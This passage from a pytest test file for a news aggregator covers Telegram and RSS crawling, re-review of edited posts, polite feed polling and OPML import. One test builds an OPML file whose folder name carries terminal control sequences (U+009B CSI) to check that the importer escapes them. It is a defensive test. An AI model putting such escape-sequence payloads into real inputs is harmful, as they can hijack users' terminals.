    assert fake.count("GetHistoryRequest") == 3           # nothing asked after the FloodWait
    rows = db.conn().execute("SELECT slug, status, error_count, next_fetch_at, last_error "
                             "FROM sources ORDER BY slug").fetchall()
    assert all(r["status"] == "alive" and r["error_count"] == 0 for r in rows)
    later = vesti.utc_text(time.time() + 3500)
    assert all(r["next_fetch_at"] > later for r in rows)
    assert "waits until" in rows[5]["last_error"]
    fake.requests.clear()
    assert crawl_tg(s, db, fake).results == [] and fake.requests == []   # --all waits it out


def test_a_kept_channel_id_that_telegram_refuses_is_resolved_again(home):
    s, db = tg_intake(home)
    fake = FakeTelegram(channel_history())
    crawl_tg(s, db, fake)
    fake.hashes["linuxnews"] = 424242           # the channel's access hash changed
    fake.history.append(tg_message(10, "A post after the change, long enough to be a post."))
    fake.requests.clear()
    summary = crawl_tg(s, db, fake)
    assert summary.results[0].status == "ok" and summary.new_posts == 1
    assert fake.requests == ["GetHistoryRequest", "ResolveUsernameRequest", "GetHistoryRequest"]
    assert db.conn().execute("SELECT access_hash FROM tg_state").fetchone()[0] == 424242


def test_a_changed_username_in_sources_yaml_is_resolved_again(home):
    s, db = tg_intake(home)
    fake = FakeTelegram(channels={"linuxnews": channel_history(), "kernelnews": []})
    crawl_tg(s, db, fake)
    db.conn().execute("UPDATE sources SET url = 'https://t.me/kernelnews'")
    fake.requests.clear()
    crawl_tg(s, db, fake)
    assert fake.requests == ["ResolveUsernameRequest", "GetHistoryRequest"]


def test_a_dropped_connection_is_reconnected_once_then_recorded(home):
    s, db, fake = many_channels(home, 3)
    fake.drop_connection = 1
    summary = crawl_tg(s, db, fake)
    assert [r.status for r in summary.results] == ["ok"] * 3 and fake.connects == 2
    fake.drop_connection = 5
    for history in fake.channels.values():
        history.append(tg_message(2, "A second post about the kernel, long enough to stand."))
    summary = crawl_tg(s, db, fake)
    assert [r.status for r in summary.results] == ["error"] * 3
    rows = db.conn().execute("SELECT error_count, last_error FROM sources").fetchall()
    assert all(r["error_count"] == 0 and "connection to Telegram lost" in r["last_error"]
               for r in rows)


def recent(minutes_ago):
    return datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0) - \
        datetime.timedelta(minutes=minutes_ago)


def test_a_link_only_message_is_a_teaser_classified_from_its_article(home, server):
    page = CORPUS / "html" / "bbc.com.52241221.html"
    server.routes["/story?utm_source=telegram"] = lambda request: (
        200, {"Content-Type": "text/html"}, page.read_bytes())
    s, db = tg_intake(home, VESTI_ALLOW_PRIVATE_NETWORKS=1)
    link = server.url + "/story?utm_source=telegram"
    preview = tg.MessageMediaWebPage(webpage=tg.WebPage(
        id=1, url=link, display_url=link, hash=0, title="New York from above",
        description="Drone footage of an empty city"))
    crawl_tg(s, db, FakeTelegram([tg_message(1, f"Look: {link}", media=preview)]))
    post = posts_of(db, "chan")[0]
    assert (post["content_type"], post["article_url"]) == ("summary", link)
    assert post["url"] == "https://t.me/linuxnews/1"
    assert "New York from above" in post["text"] and "Drone footage" in post["text"]
    health = {"health": vesti.Direction("health", "Health", ("coronavirus", "outbreak"))}
    vesti.run_workers(db, s, vesti.Registry("x", health, ()), workers=1, quiet=True)
    post = posts_of(db, "chan")[0]
    assert (post["classified"], post["content_type"]) == (1, "full")
    assert post["direction"] == "health"          # found only in the article's text
    assert server.sent("/story?utm_source=telegram")


def test_a_link_in_the_text_alone_makes_a_teaser_too(home):
    s, db = tg_intake(home)
    crawl_tg(s, db, FakeTelegram([tg_message(1, "Read this: https://example.org/news/1."),
                                  tg_message(2, "Another channel: https://t.me/other/5")]))
    posts = posts_of(db, "chan")
    assert [(p["content_type"], p["article_url"]) for p in posts] == \
        [("summary", "https://example.org/news/1"), ("text", None)]


@both
def test_an_edited_message_updates_its_post_and_requeues_it_once(home):
    s, db = tg_intake(home)
    posted = recent(60)
    original = tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted,
                          message="Kernel 7.1 brings 5 new drivers and a faster scheduler.")
    fake = FakeTelegram([original])
    crawl_tg(s, db, fake)
    db.conn().execute("UPDATE posts SET classified = 1, relevance = 6")
    fake.history = [tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted,
                               edit_date=posted + datetime.timedelta(minutes=5),
                               message="Kernel 7.1 brings 6 new drivers and a faster scheduler.")]
    crawl_tg(s, db, fake)
    post = posts_of(db, "chan")[0]
    assert "6 new drivers" in post["text"] and post["classified"] == 0
    assert post["edited_at"] is not None
    db.conn().execute("UPDATE posts SET classified = 1")
    crawl_tg(s, db, fake)                          # the same edit seen again: nothing to do
    assert posts_of(db, "chan")[0]["classified"] == 1
    fake.history = [tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted,
                               edit_date=posted + datetime.timedelta(minutes=9),
                               message="Kernel 7.1 brings 6 new drivers, and a faster scheduler!")]
    crawl_tg(s, db, fake)                          # punctuation only: updated, not requeued
    post = posts_of(db, "chan")[0]
    assert post["text"].endswith("scheduler!") and post["classified"] == 1
    assert len(posts_of(db, "chan")) == 1


def test_edits_after_the_edit_window_are_not_read_again(home):
    s, db = tg_intake(home, VESTI_TG_EDIT_HOURS=1)
    posted = recent(180)
    fake = FakeTelegram([tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted,
                                    message="Kernel 7.1 is out with many new drivers today.")])
    crawl_tg(s, db, fake)
    fake.history = [tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted,
                               edit_date=posted + datetime.timedelta(hours=2),
                               message="Kernel 7.1 is out with some new drivers today.")]
    crawl_tg(s, db, fake)
    assert "many new drivers" in posts_of(db, "chan")[0]["text"]


def tg_edited(id, text, posted, minutes):
    """Message `id` as Telegram gives it once edited `minutes` after `posted`."""
    return tg.Message(id=id, peer_id=tg.PeerChannel(1001), date=posted, message=text,
                      edit_date=posted + datetime.timedelta(minutes=minutes))


HARMLESS = "Linux 7.1 is out: a faster scheduler and new drivers for older laptops."
SPAM = "Linux users: cheap pills and casino bonuses at https://spam.example, order today!"


def card_of(page, post_id):
    return re.search(rf'<article class="post" id="post-{post_id}".*?</article>', page, re.S)[0]


@both
def test_an_approved_post_edited_into_other_words_goes_back_to_the_desk_marked(home, closing):
    write_sources(home / "sources.yaml", [{"slug": "chan", "crawler": "telegram",
                                           "url": "https://t.me/linuxnews", "direction": "linux"}])
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret")))
    s, db = web.settings, web.db
    posted = recent(60)
    fake = FakeTelegram([tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted,
                                    message=HARMLESS)])
    crawl_tg(s, db, fake)
    vesti.run_workers(db, s, web.registry, workers=1, quiet=True)
    web.post("/posts/1/status", {"token": web.token(), "status": "approved"})

    def approved():
        return [item["title"] for item in json.loads(web.get("/approved.json")[2])["items"]]
    assert approved() == [HARMLESS]
    fake.history = [tg_edited(1, HARMLESS.replace(" ", "  ") + "\n", posted, 5)]
    crawl_tg(s, db, fake)                     # spacing only: nothing to decide again
    assert approved() == [HARMLESS] and posts_of(db, "chan")[0]["classified"] == 1
    fake.history = [tg_edited(1, SPAM, posted, 10)]
    crawl_tg(s, db, fake)
    assert approved() == []
    post = posts_of(db, "chan")[0]
    assert (post["status"], post["decided_by"], post["decided_at"]) == ("new", None, None)
    vesti.run_workers(db, s, web.registry, workers=1, quiet=True)
    assert approved() == []
    card = card_of(web.get("/")[2], 1)
    assert "Edited after your decision (approved by admin," in card
    before, now = re.search(r'<div class="before">(.*?)</div><div class="now">(.*?)</div>',
                            card, re.S).groups()
    assert html.escape(HARMLESS) in before and html.escape(SPAM) in now
    assert "Изменён после вашего решения (одобрено, admin," in card_of(web.get("/?lang=ru")[2], 1)
    web.post("/posts/1/status", {"token": web.token(), "status": "rejected"})
    card = card_of(web.get("/?status=rejected")[2], 1)
    assert "Edited after your decision" not in card and 'class="before"' not in card
    assert approved() == [] and counts_match_posts(db.conn())


@both
def test_edits_back_to_words_already_classified_reuse_their_verdict(home, ollama):
    s, db = tg_intake(home, OLLAMA_URL=ollama.url)
    registry = vesti.Registry("x", DIRECTIONS, ())
    first = "Kernel 7.1 brings new drivers and a faster scheduler for every laptop."
    second = "Kernel 7.1 brings new drivers, a faster scheduler and longer battery life."
    posted = recent(60)
    fake = FakeTelegram([tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted,
                                    message=first)])
    crawl_tg(s, db, fake)
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    for minute in range(1, 7):                    # six edits: second, first, second, …
        fake.history = [tg_edited(1, second if minute % 2 else first, posted, minute)]
        crawl_tg(s, db, fake)
        vesti.run_workers(db, s, registry, workers=1, quiet=True)
        post = posts_of(db, "chan")[0]
        assert post["classified"] == 1 and post["summary"] == f"Summary: {post['text']}"
    assert ollama.titles() == [first, second]
    assert posts_of(db, "chan")[0]["text"] == first


@both
def test_an_edited_teaser_classified_on_its_article_keeps_its_decision(home, server):
    page = CORPUS / "html" / "bbc.com.52241221.html"
    server.routes["/story"] = lambda request: (200, {"Content-Type": "text/html"},
                                               page.read_bytes())
    s, db = tg_intake(home, VESTI_ALLOW_PRIVATE_NETWORKS=1)
    link = server.url + "/story"
    preview = tg.MessageMediaWebPage(webpage=tg.WebPage(
        id=1, url=link, display_url=link, hash=0, title="New York from above",
        description="Drone footage of an empty city"))
    posted = recent(60)
    fake = FakeTelegram([tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted,
                                    message=f"Look: {link}", media=preview)])
    crawl_tg(s, db, fake)
    fake.history[0].edit_date = posted + datetime.timedelta(minutes=2)   # a fixed typo, say
    health = {"health": vesti.Direction("health", "Health", ("coronavirus", "outbreak"))}
    vesti.run_workers(db, s, vesti.Registry("x", health, ()), workers=1, quiet=True)
    post = posts_of(db, "chan")[0]
    assert (post["classified"], post["content_type"]) == (1, "full")
    vesti.set_decision(db.conn(), post["id"], "approved", "admin")
    crawl_tg(s, db, fake)            # read again (edited lately): its words are the same
    post = posts_of(db, "chan")[0]
    assert (post["status"], post["classified"], post["content_type"]) == ("approved", 1, "full")
    assert "New York" in post["text"] and len(post["text"]) > 1000
    assert len(server.sent("/story")) == 1


@both
def test_a_decided_teaser_whose_hidden_link_is_edited_goes_back_to_the_desk(home):
    s, db = tg_intake(home)
    posted = recent(60)

    def teaser(link, minutes=None):
        words = "Read the whole story here"
        return tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted, message=words,
                          entities=[tg.MessageEntityTextUrl(offset=0, length=len(words), url=link)],
                          edit_date=minutes and posted + datetime.timedelta(minutes=minutes))
    fake = FakeTelegram([teaser("https://news.example/budget")])
    crawl_tg(s, db, fake)
    db.conn().execute("UPDATE posts SET classified = 1, relevance = 7")
    vesti.set_decision(db.conn(), 1, "approved", "admin")
    fake.history = [teaser("https://news.example/budget", 3)]
    crawl_tg(s, db, fake)                          # read again, nothing changed
    assert posts_of(db, "chan")[0]["status"] == "approved"
    fake.history = [teaser("https://casino.example/bonus", 5)]
    crawl_tg(s, db, fake)
    post = posts_of(db, "chan")[0]
    assert (post["status"], post["old_decision"], post["classified"]) == ("new", "approved", 0)
    assert post["article_url"] == "https://casino.example/bonus"


@both
def test_an_edit_while_a_worker_classifies_the_post_sends_it_back_to_the_queue(home):
    """The worker's verdict (and article) on the words before is not
    written; copies that joined the post while it was asked about go on
    under the oldest of them."""
    s, db = tg_intake(home)
    conn, posted = db.conn(), recent(60)
    fake = FakeTelegram([tg.Message(id=k, peer_id=tg.PeerChannel(1001), date=posted,
                                    message=f"{HARMLESS} ({k})") for k in (1, 2, 3)])
    crawl_tg(s, db, fake)
    [claimed] = vesti.claim_posts(conn, 1)
    lead, *copies = [post["id"] for post in posts_of(db, "chan")]
    assert claimed.id == lead
    # Copies join a story as its first post is asked about; its own story_id
    # is written with its verdict.
    conn.execute(f"UPDATE posts SET story_id = {lead} WHERE id IN ({copies[0]}, {copies[1]})")
    spam = "Linux users: cheap pills and casino bonuses, order today!"
    fake.history = [tg_edited(1, spam, posted, 5), *fake.history[1:]]
    crawl_tg(s, db, fake)
    verdict = vesti.Verdict(direction="linux", relevance=9, interest=6,
                            summary="Linux 7.1 is out", text="The article on Linux 7.1 " * 50)
    written, _ = vesti.complete_and_claim(conn, [(claimed, verdict)], 0)
    assert written == [None]
    post = posts_of(db, "chan")[0]
    assert (post["classified"], post["claim_token"], post["attempts"], post["next_attempt_at"],
            post["relevance"], post["summary"]) == (0, None, 0, None, None, None)
    assert (post["text"], post["content_type"]) == (spam, "text")
    assert [p["story_id"] for p in posts_of(db, "chan")] == [None, copies[0], copies[0]]
    vesti.run_workers(db, s, vesti.Registry("x", DIRECTIONS, ()), workers=1, quiet=True)
    post = posts_of(db, "chan")[0]
    assert (post["classified"], post["text"], post["attempts"]) == (1, spam, 1)


@both
def test_a_teaser_stored_before_its_words_were_kept_keeps_its_decision_when_read_again(home):
    s, db = tg_intake(home)
    posted = recent(60)
    words = "Read the whole story here"

    def teaser(minutes, link="https://news.example/budget"):
        return tg.Message(id=1, peer_id=tg.PeerChannel(1001), date=posted, message=words,
                          entities=[tg.MessageEntityTextUrl(offset=0, length=len(words), url=link)],
                          edit_date=posted + datetime.timedelta(minutes=minutes))
    fake = FakeTelegram([teaser(1)])
    crawl_tg(s, db, fake)
    article = "The city's budget for next year doubles what it spends on schools. " * 30
    # As a database from before the words were kept has it: classified on its article.
    db.conn().execute("UPDATE posts SET classified = 1, relevance = 7, content_type = 'full', "
                      "text = ?, words_sha256 = NULL", (article,))
    vesti.set_decision(db.conn(), 1, "approved", "admin")
    for minutes in (2, 3):            # the first crawls after the upgrade: the same message
        fake.history = [teaser(minutes)]
        crawl_tg(s, db, fake)
        post = posts_of(db, "chan")[0]
        assert (post["status"], post["old_decision"], post["classified"], post["content_type"],
                post["text"]) == ("approved", None, 1, "full", article)
    fake.history = [teaser(5, "https://casino.example/bonus")]
    crawl_tg(s, db, fake)
    post = posts_of(db, "chan")[0]
    assert (post["status"], post["old_decision"], post["classified"]) == ("new", "approved", 0)


def test_a_channel_link_that_names_no_channel_is_a_recorded_error(home):
    s, db = tg_intake(home)
    db.conn().execute("UPDATE sources SET url = 'https://example.com/x'")
    summary = crawl_tg(s, db, FakeTelegram(channel_history()))
    assert summary.results[0].status == "error"
    assert "does not name a public channel" in source_row(db, "chan")["last_error"]


def test_an_unauthorized_session_is_recorded_on_the_source(home):
    s, db = tg_intake(home)
    crawl_tg(s, db, FakeTelegram([], authorized=False))
    assert "telegram --login" in source_row(db, "chan")["last_error"]


@pytest.mark.parametrize("env,error", [
    ({}, "TG_API_ID and TG_API_HASH are not set"),
    ({"TG_API_ID": "123", "TG_API_HASH": "abc"}, "Telegram session vesti.session not found"),
])
def test_missing_telegram_setup_is_a_recorded_error_and_exit_0(home, env, error):
    write_sources(home / "sources.yaml", [{"slug": "chan", "crawler": "telegram",
                                           "url": "@linuxnews"}])
    result = cli("telegram", "--all", cwd=home, env=env)
    assert result.returncode == 0, result.stderr
    row = sqlite3.connect(home / "vesti.db").execute(
        "SELECT last_error, error_count FROM sources").fetchone()
    assert error in row[0] and row[1] == 0


def test_telegram_login_without_credentials_says_what_to_do(home):
    write_sources(home / "sources.yaml", [])
    result = cli("telegram", "--login", cwd=home)
    assert result.returncode == 2 and "set TG_API_ID and TG_API_HASH first" in result.stderr


@pytest.mark.parametrize("url", ["https://t.me/durov", "t.me/s/durov/", "@durov", "durov",
                                 "https://t.me/durov/123", "https://T.me/durov?single",
                                 "https://telegram.me/durov", "tg://resolve?domain=durov"])
def test_channel_names_from_links(url):
    assert vesti.channel_name(url) == "durov"


@pytest.mark.parametrize("url", ["https://t.me/joinchat/AAAAAE", "https://t.me/+AbCdEf",
                                 "https://example.com/durov"])
def test_invite_links_are_refused_in_sources_yaml(home, url):
    write_sources(home / "sources.yaml", [{"slug": "c", "crawler": "telegram", "url": url}])
    result = cli("status", cwd=home)
    assert result.returncode == 2 and "must name a public channel" in result.stderr


def test_crawl_sources_queues_feeds_and_records_telegram_without_calling_the_llm(home, server, ollama):
    """Seed 000: `python -m crawler.crawl_sources --all` collects, never classifies."""
    server.feed("/a", rss(items(3, host=server.url + "/a")))
    server.feed("/b", rss(items(2, start=10, host=server.url + "/b")))
    write_sources(home / "sources.yaml", [
        rss_source("a", server.url + "/a", direction="linux", priority=0),
        rss_source("b", server.url + "/b", priority=1),
        {"slug": "chan", "crawler": "telegram", "url": "@linuxnews", "priority": 0}])
    result = subprocess.run([sys.executable, "-m", "crawler.crawl_sources", "--all",
                             "--db", str(home / "vesti.db"), "--sources", str(home / "sources.yaml")],
                            cwd=home, capture_output=True, text=True, timeout=60,
                            env=cli_env({"RSS_HOST_DELAY": "0", "OLLAMA_URL": ollama.url,
                                         "PYTHONPATH": str(ROOT)}))
    assert result.returncode == 0, result.stderr
    assert "crawl: 3 sources (2 ok, 0 deferred, 1 failed: chan), 5 new posts" in result.stdout
    conn = sqlite3.connect(home / "vesti.db")
    assert conn.execute("SELECT classified, count(*) FROM posts GROUP BY 1").fetchall() == [(0, 5)]
    assert "TG_API_ID" in conn.execute("SELECT last_error FROM sources WHERE slug = 'chan'").fetchone()[0]
    assert ollama.requests == []


def test_crawl_by_priority_takes_exactly_that_priority(home, server):
    server.feed("/a", rss(items(1, host=server.url + "/a")))
    server.feed("/b", rss(items(1, host=server.url + "/b")))
    write_sources(home / "sources.yaml", [rss_source("a", server.url + "/a", priority=0),
                                          rss_source("b", server.url + "/b", priority=1)])
    result = cli("crawl", "--priority", "1", cwd=home, env={"RSS_HOST_DELAY": "0"})
    assert result.returncode == 0, result.stderr
    assert [p for p, *_ in server.requests] == ["/b"]
    empty = cli("crawl", "--priority", "7", cwd=home)
    assert empty.returncode == 0 and "no enabled source has priority 7" in empty.stderr


# Crawling many sources: silence, figures, polite polling ----------------------

def crawlers_row(page, slug):
    return re.search(rf'<tr id="source-{slug}">.*?</tr>', page)[0]


def test_a_sources_health_is_decided_from_its_record_alone():
    """The decisions behind the crawlers page, without a database or a clock:
    a gap per new post (none across a silence), silence past twice the
    longest gap once five are known, death at RSS_DEAD_AFTER failures or at
    once when the feed is gone, probes that double up to a day."""
    hour = 3600
    rhythm = vesti.next_rhythm([hour] * 4, 0, False, 2, 2 * hour)
    assert rhythm == (([hour] * 4) + [2 * hour], 2 * hour, False, None)
    assert vesti.next_rhythm([hour] * 4, 0, False, 0, 100 * hour).silent is False   # too short a history
    gaps = [hour] * 5
    assert vesti.next_rhythm(gaps, 0, False, 0, 6 * hour - 1) == (gaps, 0, False, None)
    assert vesti.next_rhythm(gaps, 0, False, 0, 6 * hour) == (gaps, 0, True, "silent")
    assert vesti.next_rhythm(gaps, 0, True, 0, 9 * hour) == (gaps, 0, True, None)  # said once
    back = vesti.next_rhythm(gaps, 0, True, 3, 9 * hour)
    assert back == (gaps, 9 * hour, False, "speaks again")      # the silence is not a gap
    assert vesti.next_rhythm([hour] * 20, 0, False, 1, hour).gaps == [hour] * 20   # the last 20
    assert vesti.failed_fetch(0, False, 3) == (1, False, hour)
    assert vesti.failed_fetch(2, False, 3) == (3, True, hour)
    assert vesti.failed_fetch(0, False, 3, gone=True)[1] is True
    assert [vesti.failed_fetch(n, True, 3)[2] for n in (3, 4, 7, 30)] == \
        [2 * hour, 4 * hour, 24 * hour, 24 * hour]


@both
def test_a_source_that_goes_quiet_for_longer_than_its_rhythm_turns_silent(home, caplog, closing):
    s, db = intake(home, [rss_source("wire", "http://127.0.0.1:9/wire"),
                          rss_source("steady", "http://127.0.0.1:9/steady")])
    conn = db.conn()
    wire, steady = source_row(db, "wire"), source_row(db, "steady")
    start = time.time() - 40 * 3600
    for hour in range(0, 8, 2):                      # new posts every two hours
        vesti.record_success(conn, wire, 3, now=start + hour * 3600)
        vesti.record_success(conn, steady, 1, now=start + hour * 3600)
    for hour in range(8, 14):                        # six hours of nothing: still its rhythm...
        vesti.record_success(conn, wire, 0, now=start + hour * 3600)
    assert source_row(db, "wire")["silent_since"] is None   # ...and too little history yet
    for hour in range(14, 20, 2):
        vesti.record_success(conn, wire, 2, now=start + hour * 3600)
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="vesti"):
        for hour in (23, 25, 27, 30):                 # twice its longest gap (8 h) is 16 h
            vesti.record_success(conn, wire, 0, now=start + hour * 3600)
        assert source_row(db, "wire")["silent_since"] is None
        for hour in (37, 38, 39):
            vesti.record_success(conn, wire, 0, now=start + hour * 3600)
    assert source_row(db, "wire")["silent_since"] is not None
    warnings = [r.getMessage() for r in caplog.records]
    assert warnings == ["source wire is silent: no new post for 19 h (it usually brings some "
                        "every 2 h)"]                # once, not at every fetch
    report = vesti.status_report(conn)
    states = {src["slug"]: src["state"] for src in report["sources"]}
    assert states == {"wire": "silent", "steady": "alive"}
    assert [src["slug"] for src in report["sources"]][0] == "wire"          # shown first
    w = closing(Web(home, settings=s))
    page = w.get("/crawlers")[2]
    metrics = metric_samples(w.get("/metrics")[2])[1]
    assert page.index('id="source-wire"') < page.index('id="source-steady"')
    assert 'class="silent">silent<br><span class="small">no new post for 22 h</span>' in \
        crawlers_row(page, "wire")
    assert metrics[("vesti_sources", (("crawler", "rss"), ("status", "silent")))] == 1
    assert metrics[("vesti_sources", (("crawler", "rss"), ("status", "alive")))] == 1
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="vesti"):
        vesti.record_success(conn, source_row(db, "wire"), 4, now=time.time())
    assert [r.getMessage() for r in caplog.records] == [
        "source wire speaks again: 4 new posts after 22 h of silence"]
    assert source_row(db, "wire")["silent_since"] is None


@both
def test_the_crawlers_page_and_status_show_each_sources_figures(home, server, closing):
    server.feed("/feed", rss(items(4, host=server.url)))
    server.feed("/other", rss([{"guid": f"o{k}", "link": f"{server.url}/o/{k}",
                                "title": f"Gardening note {k}",
                                "text": f"Roses and tulips, note {k}. " + "Soil. " * 20}
                               for k in range(2)]))
    s, db = intake(home, [rss_source("lwn", server.url + "/feed", direction="linux"),
                          rss_source("garden", server.url + "/other")])
    crawl(s, db)
    assert source_row(db, "lwn")["relevant_share"] is None     # none classified yet
    vesti.run_workers(db, s, vesti.load_registry(s.sources), workers=2, quiet=True)
    assert source_row(db, "lwn")["relevant_share"] == 1.0       # known once classified
    w = closing(Web(home, settings=s))
    assert w.post("/posts/1/status", {"status": "approved", "token": w.token()})[0] == 303
    crawl(s, db)                                  # the figures follow each run
    page = w.get("/crawlers")[2]
    cells = re.findall(r"<td[^>]*>(.*?)</td>", crawlers_row(page, "lwn"))
    assert cells[7:12] == ["4", "4", source_row(db, "lwn")["last_new_at"], "100%", "1"]
    garden = re.findall(r"<td[^>]*>(.*?)</td>", crawlers_row(page, "garden"))
    assert garden[7:12] == ["2", "2", source_row(db, "garden")["last_new_at"], "0%", "0"]
    assert "new posts, 7 days" in page and "last new post (UTC)" in page
    report = json.loads(cli("status", "--json", cwd=home,
                            env={"RSS_HOST_DELAY": "0"}).stdout)
    lwn_report = next(src for src in report["sources"] if src["slug"] == "lwn")
    assert (lwn_report["week_posts"], lwn_report["relevant_share"], lwn_report["approved"]) == (4, 1.0, 1)
    assert lwn_report["last_new_at"] == source_row(db, "lwn")["last_new_at"]


def cached_feed(server, path, headers, body):
    def handler(request):
        return 200, {"Content-Type": "application/rss+xml", **headers}, body
    server.routes[path] = handler


@pytest.mark.parametrize("headers, ttl, wait", [
    ({"Cache-Control": "public, max-age=7200"}, None, 7200),
    ({"Expires": "Tue, 01 Dec 2026 14:00:00 GMT", "Date": "Tue, 01 Dec 2026 12:00:00 GMT"}, None, 7200),
    ({}, 120, 7200),                                  # <ttl> is in minutes
    ({"Cache-Control": "max-age=999999999"}, None, 86400),   # a silly value: a day at most
])
def test_the_scheduler_never_polls_sooner_than_the_feed_allows(home, server, headers, ttl, wait,
                                                               monkeypatch):
    body = rss(items(2, host=server.url))
    if ttl:
        body = body.replace(b"<channel>", f"<channel><ttl>{ttl}</ttl>".encode())
    cached_feed(server, "/feed", headers, body)
    server.feed("/plain", rss(items(2, start=10, host=server.url)), etag=None, modified=None)
    s, db = intake(home, [rss_source("cached", server.url + "/feed"),
                          rss_source("plain", server.url + "/plain")], VESTI_CRAWL_EVERY="10m")
    start = time.time()
    now = [start]
    monkeypatch.setattr(time, "time", lambda: now[0])   # the wall clock, moved by the test
    scheduler = vesti.Scheduler(db, s, vesti.load_registry(s.sources), threading.Event(),
                                clock=lambda: now[0])
    fetched = lambda: (len(server.sent("/feed")), len(server.sent("/plain")))  # noqa: E731
    assert scheduler.tick() == [0] and scheduler.join(10)
    assert fetched() == (1, 1)
    for minutes in range(15, wait // 60, 15):          # every 15 minutes until it allows
        now[0] = start + minutes * 60
        scheduler.tick()
        assert scheduler.join(10)
    assert fetched()[0] == 1 and fetched()[1] >= 2      # the plain feed kept its interval
    now[0] = start + wait + 15 * 60
    scheduler.tick()
    assert scheduler.join(10)
    assert fetched()[0] == 2
    crawl(s, db, ("all", None))                          # cron's --all waits as well
    assert fetched()[0] == 2
    crawl(s, db, ("source", "cached"))                   # --source is the operator asking
    assert fetched()[0] == 3


@both
def test_run_spreads_a_prioritys_sources_over_its_interval(home, server, monkeypatch):
    slugs = [f"feed{k:02d}" for k in range(12)]
    for slug in slugs:
        server.feed(f"/{slug}", rss(items(1, host=f"{server.url}/{slug}")))
    s, db = intake(home, [rss_source(slug, f"{server.url}/{slug}") for slug in slugs],
                   VESTI_CRAWL_EVERY="10m")
    start = 1_900_000_000.0                             # a fixed moment: the same slots every run
    now = [start]
    monkeypatch.setattr(time, "time", lambda: now[0])
    scheduler = vesti.Scheduler(db, s, vesti.load_registry(s.sources), threading.Event(),
                                clock=lambda: now[0])
    assert scheduler.tick() == [0] and scheduler.join(10)
    assert len(server.requests) == 12                   # the first round: everything at once
    rounds = []
    for second in range(0, 15 * 60 + 1, 30):           # then a tick every 30 s for 15 minutes
        now[0] = start + second
        before = len(server.requests)
        scheduler.tick()
        assert scheduler.join(10)
        rounds.append(len(server.requests) - before)
    per_feed = collections.Counter(path for path, *_ in server.requests)
    assert set(per_feed.values()) == {2}                # each once more, at its own slot
    assert sum(1 for n in rounds if n) >= 6             # spread over many ticks, not one
    assert max(rounds) <= 4


OPML = ROOT / "tests" / "fixtures" / "opml"


def test_an_opml_export_is_added_to_sources_yaml_keeping_every_comment(home):
    # A commented registry: the one the repository shipped when this test
    # was written (the working copy's is the newsroom's to edit).
    shipped = (ROOT / "tests" / "fixtures" / "sources.yaml").read_text(encoding="utf-8")
    (home / "sources.yaml").write_text(shipped, encoding="utf-8")
    result = cli("opml-import", str(OPML / "feedly.opml"), "--direction", "linux", cwd=home)
    assert result.returncode == 0, result.stderr
    assert "3 feeds added" in result.stdout and "1 skipped" in result.stdout   # lwn is there
    text = (home / "sources.yaml").read_text(encoding="utf-8")
    remaining = iter(text.splitlines())                 # every shipped line, in its order
    assert all(line in remaining for line in shipped.splitlines())
    assert "# - slug: durov" in text and "# VESTI source registry" in text
    registry = vesti.load_registry(str(home / "sources.yaml"))
    added = {s.slug: s for s in registry.sources if s.slug != "lwn"}
    assert sorted(added) == ["nasa-breaking-news", "opennet-novosti", "phoronix"]   # by title
    assert added["opennet-novosti"].name == "OpenNET: новости"
    assert added["nasa-breaking-news"].direction == "linux"          # --direction, not "Space"
    assert added["phoronix"].priority == 1
    again = cli("opml-import", str(OPML / "freshrss.opml"), cwd=home)
    assert "1 feeds added" in again.stdout and "2 skipped" in again.stdout   # phoronix, ftp
    slugs = [s.slug for s in vesti.load_registry(str(home / "sources.yaml")).sources]
    assert slugs[-1] == "habr-co" and len(slugs) == len(set(slugs)) == 5
    rows = sqlite3.connect(home / "vesti.db").execute("SELECT count(*) FROM sources").fetchone()
    assert rows[0] == 5                                     # synced at once


EDITOR_DIRECTIONS = """\
directions:
  linux:
    title: Linux and open source
    keywords: [linux]
  space:
    title: Космос
    keywords: [orbit]
sources:
  - slug: lwn-net
    name: LWN
    crawler: rss
    url: https://lwn.net/headlines/rss
"""


def test_opml_folders_named_like_directions_put_their_feeds_there(home):
    (home / "sources.yaml").write_text(EDITOR_DIRECTIONS, encoding="utf-8")
    result = cli("opml-import", str(OPML / "inoreader.opml"), cwd=home)
    assert result.returncode == 0, result.stderr
    assert "9 feeds added" in result.stdout and "1 skipped" in result.stdout
    assert "folders matching no direction: Podcasts, Podcasts / Security; " \
        "their feeds were added without a direction" in result.stdout
    added = {s.slug: s.direction for s in vesti.load_registry(str(home / "sources.yaml")).sources}
    assert added == {"lwn-net": None, "lwn-net-2": "linux", "opennet-novosti": "linux",
                     "khabr-vse-publikatsii": "linux", "nasa-breaking-news": "space",
                     "radio-t": None, "risky-business": None, "hacker-news": None,
                     "feeds-feedburner": None, "nhk": None}
    (home / "other").mkdir()
    (home / "other" / "sources.yaml").write_text(EDITOR_DIRECTIONS, encoding="utf-8")
    chosen = cli("opml-import", str(OPML / "inoreader.opml"), "--direction", "space",
                 cwd=home / "other")
    assert chosen.returncode == 0 and "folders" not in chosen.stdout, chosen.stderr
    registry = vesti.load_registry(str(home / "other" / "sources.yaml"))
    assert {s.direction for s in registry.sources if s.slug != "lwn-net"} == {"space"}


def test_a_folders_name_cannot_drive_the_terminal(home):
    """U+009B (CSI) is allowed in XML and starts a terminal's control
    sequence on many terminals: said escaped, as in the log."""
    (home / "sources.yaml").write_text(EDITOR_DIRECTIONS, encoding="utf-8")
    (home / "evil.opml").write_text(
        '<opml version="2.0"><body><outline text="News\u009b2J\u009b31m">'
        '<outline type="rss" text="Feed" xmlUrl="https://feed.example/rss"/>'
        '</outline></body></opml>', encoding="utf-8")
    result = cli("opml-import", "evil.opml", cwd=home)
    assert result.returncode == 0, result.stderr
    assert "\u009b" not in result.stdout and "News\\x9b2J\\x9b31m" in result.stdout


@pytest.mark.slow
